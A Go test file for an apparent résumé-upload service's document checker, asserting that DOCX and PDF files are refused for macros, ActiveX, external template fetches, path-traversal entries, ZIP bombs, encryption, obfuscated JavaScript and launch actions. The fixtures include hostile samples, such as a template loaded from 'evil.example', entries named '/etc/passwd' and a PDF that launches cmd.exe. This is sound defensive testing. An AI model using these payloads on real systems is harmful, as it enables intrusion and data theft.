package domain_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/applyq/applyq/internal/documents/documentstest"
	"github.com/applyq/applyq/internal/domain"
)

// docxWith is a minimal .docx with more parts (name → content) and more
// [Content_Types].xml entries.
func docxWith(t *testing.T, parts map[string]string, types string) []byte {
	t.Helper()
	files := map[string]string{
		"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
			types + `</Types>`,
		"_rels/.rels": rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>`),
		"word/document.xml": `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` +
			`<w:body><w:p><w:r><w:t>Ada Lovelace</w:t></w:r></w:p></w:body></w:document>`,
	}
	for name, content := range parts {
		files[name] = content
	}
	return documentstest.Zip(t, files)
}

func rels(body string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + body + `</Relationships>`
}

// requireFound checks a document is refused with 400, naming want.
func requireFound(t *testing.T, data []byte, want ...string) {
	t.Helper()
	_, err := domain.SniffDocument(data)
	require.Equal(t, domain.EINVALID, domain.ErrorCode(err), "%v", err)
	msg := domain.ErrorMessage(err)
	for _, w := range want {
		require.Contains(t, msg, w)
	}
	require.Contains(t, msg, "upload your résumé or cover letter as a PDF")
}

// zipRaw builds a ZIP whose entries' headers the test sets.
func zipRaw(t *testing.T, entries ...func(zw *zip.Writer)) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		e(zw)
	}
	require.NoError(t, zw.Close())
	return buf.Bytes()
}

func entry(t *testing.T, h *zip.FileHeader, content []byte) func(zw *zip.Writer) {
	return func(zw *zip.Writer) {
		w, err := zw.CreateHeader(h)
		require.NoError(t, err)
		_, err = w.Write(content)
		require.NoError(t, err)
	}
}

// TestInspectDOCX: a Word document is refused for what could run, fetch
// or unpack something — macros under any name, external templates and
// other external parts, encryption, entries that are paths out of the
// archive, a ZIP bomb — naming what was found; hyperlinks, a plain
// document and one that compresses well pass.
func TestInspectDOCX(t *testing.T) {
	t.Parallel()
	ok := func(data []byte) {
		t.Helper()
		ct, err := domain.SniffDocument(data)
		require.NoError(t, err)
		require.Equal(t, domain.ContentTypeDOCX, ct)
	}
	ok(docxWith(t, nil, ""))
	ok(documentstest.DOCX(t, "Ada"))
	ok(docxWith(t, map[string]string{"word/_rels/document.xml.rels": rels(
		`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://linkedin.com/in/ada" TargetMode="External"/>`)}, ""))
	ok(docxWith(t, map[string]string{"word/media/big.xml": strings.Repeat("<w:p>Analytical engine</w:p>", 20000)}, "")) // ~560 KiB of XML

	// A macro project under another name, found by its content type.
	requireFound(t, docxWith(t, map[string]string{"word/settings2.bin": "VBA"},
		`<Override PartName="/word/settings2.bin" ContentType="application/vnd.ms-office.vbaProject"/>`), "macros", "application/vnd.ms-office.vbaProject")
	requireFound(t, docxWith(t, nil, `<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`), "macros")
	requireFound(t, docxWith(t, map[string]string{"word/activeX/activeX1.bin": "x"},
		`<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>`), "ActiveX")
	// Or by a relationship to it.
	requireFound(t, docxWith(t, map[string]string{"word/_rels/document.xml.rels": rels(
		`<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.dat"/>`)}, ""), "macros")
	// The name Word gives it.
	requireFound(t, docxWith(t, map[string]string{"word/vbaProject.bin": "VBA"}, ""), "macros")

	// An external template (template injection), an external OLE object
	// or image: fetched when the document opens.
	requireFound(t, docxWith(t, map[string]string{"word/_rels/settings.xml.rels": rels(
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`)}, ""),
		"loads something from outside itself", "attachedTemplate", "https://evil.example/t.dotm")
	requireFound(t, docxWith(t, map[string]string{"word/_rels/document.xml.rels": rels(
		`<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.example/p.png" TargetMode="External"/>`)}, ""),
		"image")

	// Encrypted: the ZIP flag, or Office's encrypted package inside.
	plain := docxWith(t, nil, "")
	encrypted := zipRaw(t, func(zw *zip.Writer) { require.NoError(t, zw.Copy(mustFile(t, plain, "[Content_Types].xml"))) },
		func(zw *zip.Writer) { require.NoError(t, zw.Copy(mustFile(t, plain, "word/document.xml"))) },
		entry(t, &zip.FileHeader{Name: "word/secret.xml", Flags: 0x1}, []byte("xx")))
	requireFound(t, encrypted, "encrypted")
	requireFound(t, docxWith(t, map[string]string{"EncryptedPackage": "x"}, ""), "encrypted")

	// Entry names that are paths out of the archive.
	for _, name := range []string{"../../.bashrc", "word/../../evil", "/etc/passwd", `word\..\evil`, "C:/evil"} {
		requireFound(t, docxWith(t, map[string]string{name: "x"}, ""), "path out of it")
	}

	// A ZIP bomb: far more unpacked than the file, or over the bound.
	requireFound(t, docxWith(t, map[string]string{"word/bomb.xml": strings.Repeat("\x00", 3<<20)}, ""), "ZIP bomb")
	// Sizes the headers declare are checked before anything is unpacked,
	// and never believed alone.
	header := func(declared uint64) []byte {
		return zipRaw(t, func(zw *zip.Writer) {
			for _, f := range []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml"} {
				require.NoError(t, zw.Copy(mustFile(t, plain, f)))
			}
		}, func(zw *zip.Writer) {
			zeros := deflatedZeros(t, 3<<20)
			w, err := zw.CreateRaw(&zip.FileHeader{Name: "word/quiet.xml", Method: zip.Deflate, CompressedSize64: uint64(len(zeros)),
				UncompressedSize64: declared})
			require.NoError(t, err)
			_, err = w.Write(zeros)
			require.NoError(t, err)
		})
	}
	requireFound(t, header(200<<20), "more than 100 MiB")
	lying := header(10)
	_, err := domain.SniffDocument(lying)
	require.Equal(t, domain.EINVALID, domain.ErrorCode(err), "a lying header is not believed")
}

// mustFile returns the entry name of the ZIP data.
func mustFile(t *testing.T, data []byte, name string) *zip.File {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	for _, f := range zr.File {
		if f.Name == name {
			return f
		}
	}
	t.Fatalf("no %s", name)
	return nil
}

// deflatedZeros is n zero bytes, raw-deflated as a ZIP entry holds them.
func deflatedZeros(t *testing.T, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateHeader(&zip.FileHeader{Name: "z", Method: zip.Deflate})
	require.NoError(t, err)
	_, err = w.Write(make([]byte, n))
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	f := mustFile(t, buf.Bytes(), "z")
	off, err := f.DataOffset()
	require.NoError(t, err)
	return buf.Bytes()[off : off+int64(f.CompressedSize64)]
}

// pdf is a small PDF whose catalog holds extra.
func pdf(extra string) []byte {
	return []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + " >>\nendobj\n" +
		"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
}

// objStmPDF is a PDF whose catalog sits in a FlateDecode object stream.
func objStmPDF(t *testing.T, catalog string) []byte {
	t.Helper()
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, err := zw.Write([]byte("1 0 " + catalog))
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	return []byte(fmt.Sprintf("%%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n",
		z.Len(), z.Bytes()))
}

// TestInspectPDF: a PDF is refused for JavaScript (however its names are
// written, and inside compressed object streams), launch actions,
// embedded files and additional actions, naming them; a plain one, and an
// open action that only shows a page, pass.
func TestInspectPDF(t *testing.T) {
	t.Parallel()
	for _, ok := range [][]byte{
		pdf(""),
		pdf("/OpenAction [3 0 R /FitH null]"),
		pdf("/Names << /JSON (not a script) /JSX 1 >> /URI (https://example.com)"),
		objStmPDF(t, "<< /Type /Catalog /Pages 2 0 R >>"),
		documentstest.PDF("Ada"),
	} {
		ct, err := domain.SniffDocument(ok)
		require.NoError(t, err, "%q", ok)
		require.Equal(t, domain.ContentTypePDF, ct)
	}
	for _, c := range []struct {
		pdf  []byte
		want []string
	}{
		{pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), []string{"JavaScript", "/JS", "/OpenAction"}},
		{pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), []string{"JavaScript", "/JS"}},
		{pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), []string{"launches a program", "/Launch"}},
		{pdf("/Names << /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >>"), []string{"embedded files", "/EmbeddedFiles"}},
		{pdf("/AA << /O 9 0 R >>"), []string{"/AA"}},
		{objStmPDF(t, "<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), []string{"JavaScript", "/JS"}},
	} {
		_, err := domain.SniffDocument(c.pdf)
		require.Equal(t, domain.EINVALID, domain.ErrorCode(err), "%q", c.pdf)
		for _, w := range c.want {
			require.Contains(t, domain.ErrorMessage(err), w)
		}
		require.NotEmpty(t, domain.ErrorDetails(err)["found"], "details.found lists what was found")
	}
}
